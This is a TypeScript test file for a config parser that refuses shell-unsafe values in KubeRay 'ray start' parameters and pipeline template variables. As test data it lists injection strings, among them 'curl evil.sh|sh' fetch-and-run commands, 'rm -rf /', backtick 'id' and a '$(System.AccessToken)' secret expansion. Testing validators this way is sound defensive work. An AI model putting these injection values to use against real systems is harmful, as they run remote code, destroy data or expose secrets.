// Values that reach a shell (`ray start --key=value`, which KubeRay builds unquoted; pipeline variables the
// template pastes into scripts as $(name)) are refused in config unless they match their grammar, with the key,
// the value and the allowed form in the message.
import { describe, expect, it } from "vitest";
import { parseStackConfig } from "../../config/parse";
import { minimalStackConfig } from "../harness";

function problemsFor(extra: Record<string, unknown>): string[] {
  const base = minimalStackConfig();
  const ray = (extra.ray ?? {}) as Record<string, Record<string, unknown>>;
  const merged = {
    ...base,
    ...extra,
    ray: { ...base.ray, ...ray, gpuWorker: { ...(base.ray.gpuWorker as object), ...ray.gpuWorker } },
  };
  const result = parseStackConfig(merged);
  return result.ok ? [] : result.problems;
}

const RAY_VALUE_RULE =
  'expected a ray start value of letters, digits and _ . : / @ % + , = - such as "8" or "0.0.0.0"; KubeRay puts it unquoted into the `ray start` command, so quotes, spaces, $, ;, &, |, <, >, *, ?, backslashes and brackets are refused';

const RAY_OPTION_RULE = "expected a lower-case ray start option of letters, digits and - such as num-cpus";

const VARIABLE_RULE =
  'expected a value of letters, digits, spaces and _ . , : / @ % + = - such as "westeurope"; the pipeline template pastes $(name) into its scripts, so $, quotes, ;, &, |, <, >, backticks and backslashes are refused';

describe("rayStartParams values", () => {
  const hostile: [string, string, string][] = [
    ["gpuWorker", "num-cpus", "8 $(curl evil.sh|sh)"],
    ["head", "dashboard-host", "0.0.0.0; touch pwned"],
    ["cpuWorker", "temp-dir", "/tmp/`id`"],
    ["gpuWorker", "object-store-memory", "1000 && rm -rf /"],
    ["head", "node-ip-address", "$MY_POD_IP"],
    ["cpuWorker", "labels", "a=b|c"],
    ["gpuWorker", "resources", '\'"{\\"TPU\\": 4}"\''],
    ["head", "metrics-export-port", "8080\nreboot"],
    ["cpuWorker", "log-style", "record>out"],
    ["gpuWorker", "temp-dir", "/tmp/*"],
    ["head", "dashboard-host", ""],
  ];

  it.each(hostile)("ray.%s.rayStartParams.%s = %j is refused", (group, key, value) => {
    expect(problemsFor({ ray: { [group]: { rayStartParams: { [key]: value } } } })).toEqual([
      `ray.${group}.rayStartParams.${key} = ${JSON.stringify(value)}: ${RAY_VALUE_RULE}; set it with \`pulumi config set --path ray.${group}.rayStartParams.${key} <value>\``,
    ]);
  });

  it("an option name with shell characters is refused with the allowed form", () => {
    expect(problemsFor({ ray: { cpuWorker: { rayStartParams: { "x;reboot": "1" } } } })).toEqual([
      `ray.cpuWorker.rayStartParams.x;reboot = "1": "x;reboot" is not a valid key: ${RAY_OPTION_RULE}; set it with \`pulumi config set --path ray.cpuWorker.rayStartParams.x;reboot <value>\``,
    ]);
  });

  it("ordinary values pass: numbers, booleans, hosts, paths, lists, key=value labels", () => {
    const params = {
      "num-cpus": 8,
      block: true,
      "node-ip-address": "10.0.0.1",
      "temp-dir": "/tmp/ray_tmp",
      labels: "zone=eu-1,tier=gpu",
      "object-store-memory": "2000000000",
      "redis-address": "ray-head:6379",
    };
    expect(problemsFor({ ray: { cpuWorker: { rayStartParams: params } } })).toEqual([]);
  });
});

describe("pipelines.variables values", () => {
  it.each(["$(System.AccessToken)", "x; curl evil.sh | sh", "`id`", "a'b", 'a"b', "a\\b", "a\nb", "a>b", "a&b"])(
    "%j is refused",
    (value) => {
      expect(problemsFor({ pipelines: { variables: { REGION: value } } })).toEqual([
        `pipelines.variables.REGION = ${JSON.stringify(value)}: ${VARIABLE_RULE}; set it with \`pulumi config set --path pipelines.variables.REGION <value>\``,
      ]);
    },
  );

  it("plain values pass, spaces included (a service connection name has them)", () => {
    expect(
      problemsFor({ pipelines: { variables: { REGION: "westeurope", CONNECTION: "S2T Sela-data-ai", URL: "https://x.example/a" } } }),
    ).toEqual([]);
  });
});
